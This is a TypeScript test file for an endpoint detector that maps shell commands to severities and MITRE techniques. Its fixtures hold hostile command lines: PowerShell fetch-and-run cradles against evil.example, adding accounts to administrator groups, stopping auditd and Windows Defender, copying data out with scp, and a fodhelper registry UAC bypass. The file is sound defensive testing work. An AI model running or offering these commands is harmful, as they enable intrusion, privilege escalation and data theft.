/** What a command does is told by the act it is and the technique that fits it; names that only stand there accuse nobody. */
import { expect, test } from 'vitest';
import { checkCommands } from '../../../analysis/endpoint/index.ts';
import { literalContent } from '../../../seams/index.ts';
import { assessed, accusations } from './assessed.ts';

const judged = (command: string) => {
  const { findings, mitre_techniques, commands } = checkCommands([command], literalContent());
  return {
    told: findings.map(({ severity, rule }) => `${severity} ${rule ?? ''}`),
    techniques: mitre_techniques,
    technique: commands[0]?.technique,
  };
};

test.each([
  ['net localgroup administrators evil /add', 'medium'],
  ['net localgroup /add Administratoren evil', 'medium'],
  ['net localgroup "Administrateurs" evil /add', 'medium'],
  ['net1 localgroup Administradores evil /add', 'medium'],
  ['net group "Domain Admins" evil /add /domain', 'medium'],
  ['Add-LocalGroupMember -Member evil -Group Administrators', 'medium'],
  ['Add-LocalGroupMember -SID S-1-5-32-544 -Member evil', 'medium'],
  ['Add-ADGroupMember -Identity "Domänen-Admins" -Members evil', 'medium'],
  ['usermod -aG sudo evil', 'low'],
  ['usermod -a -G audio,wheel evil', 'low'],
  ['gpasswd -a evil docker', 'low'],
])('who is made an administrator is told: %s', (command, severity) => {
  expect(judged(command)).toMatchObject({
    told: [`${severity} command/administrator-added`],
    techniques: ['T1098.007'],
    technique: 'T1098.007',
  });
});

test.each([
  'net localgroup users administrators /add',
  'net localgroup "Administrators Helpers" bob /add',
  'net localgroup "Remote Desktop Users" bob /add',
  'Add-LocalGroupMember -Group "Remote Desktop Users" -Member "Domain Admins"',
  'net localgroup administrators',
  'usermod -aG dockerroot bob',
  'usermod -aG video,plugdev anna',
  'gpasswd -d anna sudo',
])('another group, or only a look, makes nobody an administrator: %s', (command) => {
  expect(judged(command).told.filter((told) => !told.startsWith('info '))).toEqual([]);
});

test.each([
  'wscript C:\\Users\\a\\x.vbs',
  'C:\\Users\\Public\\x.vbs',
  '"C:\\Users\\Public\\a b.vbs" /q',
  'cmd.exe /c start "" C:\\x.vbs',
  'cmd /c C:\\Users\\Public\\x.vbs',
  'Start-Process -FilePath C:\\x.vbs',
  'schtasks /create /sc minute /tn x /tr C:\\Users\\Public\\x.vbs',
])('Visual Basic that is run is told: %s', (command) => {
  expect(judged(command)).toMatchObject({ told: ['medium command/visual-basic'], technique: 'T1059.005' });
});

test.each([
  'regsvr32.exe /s C:\\Windows\\System32\\vbscript.dll',
  'del C:\\Windows\\Temp\\x.vbs',
  'copy report.vbs D:\\backup\\',
  'Remove-Item C:\\x.vbs',
  'notepad login.vbs',
  'findstr /s VBScript *.log',
  'powershell Get-WindowsCapability -Online -Name VBSCRIPT*',
  'Set-MpPreference -SignatureUpdateInterval 4',
])('what only bears its name is no act, and no technique is named: %s', (command) => {
  expect(judged(command)).toEqual({ told: [], techniques: [], technique: null });
});

test.each([
  'iwr -useb https://evil.example/a.ps1 | iex',
  'powershell -w h -c "iwr evil.example/a | iex"',
  '(Invoke-WebRequest https://evil.example/a).Content | Invoke-Expression',
  'irm https://get.scoop.sh | iex',
  'iex (iwr https://evil.example/a)',
])('code that is fetched and run is told alike in either order: %s', (command) => {
  expect(judged(command)).toMatchObject({ told: ['low command/powershell-cradle'], technique: 'T1059.001' });
});

test.each([
  ['systemctl stop auditd', 'T1685.004'],
  ['pkill auditd', 'T1685.004'],
  ['service rsyslog stop', 'T1685'],
  ['systemctl stop falcon-sensor', 'T1685'],
  ['sc stop WinDefend', 'T1685'],
  ['systemctl stop nginx', 'T1489'],
  ['base64 -d file.b64 > out', 'T1140'],
  ['scp -r /srv/data eve@198.51.100.7:/tmp/', 'T1048'],
  ['scp x.sh root@10.0.0.7:/tmp/', 'T1570'],
  ['scp anna@198.51.100.7:/srv/x.sh /tmp/', 'T1105'],
  ['iwr https://x.example/a.zip -OutFile a.zip', 'T1105'],
])('%s is named by the technique of what it is accused of', (command, technique) => {
  expect(judged(command)).toMatchObject({ techniques: [technique], technique });
});

const FODHELPER = 'C:\\Windows\\System32\\fodhelper.exe';
const start = (image: string, command: string, parent: string) => ({
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  EventID: 1,
  Hostname: 'WS-042',
  UtcTime: '2026-11-24 09:12:01.100',
  ProcessGuid: '{2}',
  Image: image,
  CommandLine: command,
  ParentProcessGuid: '{1}',
  ParentImage: parent,
});

test.each([
  ['C:\\Windows\\ImmersiveControlPanel\\SystemSettings.exe', `"${FODHELPER}" -ServerName:x`],
  ['C:\\Windows\\System32\\svchost.exe', 'fodhelper.exe'],
  ['C:\\Windows\\explorer.exe', `"${FODHELPER}"`],
  ['', 'fodhelper.exe'],
])('the settings of Windows pass by nothing: %s starts %s', async (parent, command) => {
  const result = await assessed([start(FODHELPER, command, parent)]);
  expect(accusations(result)).toEqual([]);
  expect(result.verdict).toBe('benign');
});

test.each([
  ['a shell that starts it', FODHELPER, 'fodhelper.exe', 'C:\\Windows\\System32\\cmd.exe'],
  ['a program from elsewhere that does', FODHELPER, 'fodhelper.exe', 'C:\\Users\\a\\AppData\\x.exe'],
  ['what it starts', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe', FODHELPER],
  [
    'the key that misuses it',
    'C:\\Windows\\System32\\reg.exe',
    'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d cmd.exe /f',
    'C:\\Windows\\explorer.exe',
  ],
])('%s passes by User Account Control', async (_what, image, command, parent) => {
  const result = await assessed([start(image, command, parent)]);
  expect(result).toMatchObject({ severity: 'high' });
  expect(result.mitre_techniques).toContain('T1548.002');
});
